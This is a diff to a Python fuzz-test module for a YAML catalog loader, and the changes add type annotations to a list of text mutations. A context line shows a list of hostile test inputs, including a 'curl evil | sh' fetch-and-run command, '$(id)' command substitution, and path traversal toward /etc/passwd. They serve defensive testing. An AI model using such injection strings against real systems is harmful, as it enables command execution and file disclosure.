@@ -10,7 +10,7 @@ import os
 import random
 import re
 import signal
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from contextlib import contextmanager
 from pathlib import Path
 from typing import Any
@@ -35,7 +35,7 @@ HOSTILE: list[Any] = [
     "bash\nRUN touch /pwned", "foo && curl evil | sh", "'; touch /pwned #", "$(id)", "`id`", "${HOME}", "../../../etc",
     "/etc/passwd\n", "\\", '"', "{version}", "\u202e", "é", [], {}, [[[]]], {"a": {"b": {"c": []}}}, ["x"] * 3,
 ]  # fmt: skip
-TEXT_MUTATIONS = [
+TEXT_MUTATIONS: list[Callable[[str], str]] = [
     lambda t: t.replace("languages:\n", "languages:\n  on:\n    title: x\n", 1),  # a key YAML reads as True
     lambda t: t.replace("languages:\n", "languages:\n  123:\n    title: x\n", 1),
     lambda t: t.replace("eol: '2025-04-30'", "eol: 2025-02-30", 1),  # no such date
@@ -87,7 +87,7 @@ def mutant(rng: random.Random, every: list[tuple[Any, ...]]) -> str:
     """A catalog with one thing wrong in it: a value replaced, a key dropped or added, or its text
     changed where YAML itself is the trap."""
     if rng.random() < 0.15:
-        return str(rng.choice(TEXT_MUTATIONS)(TEXT))
+        return rng.choice(TEXT_MUTATIONS)(TEXT)
     data = copy.deepcopy(DATA)
     where = rng.choice(every[1:])
     *parents, last = where
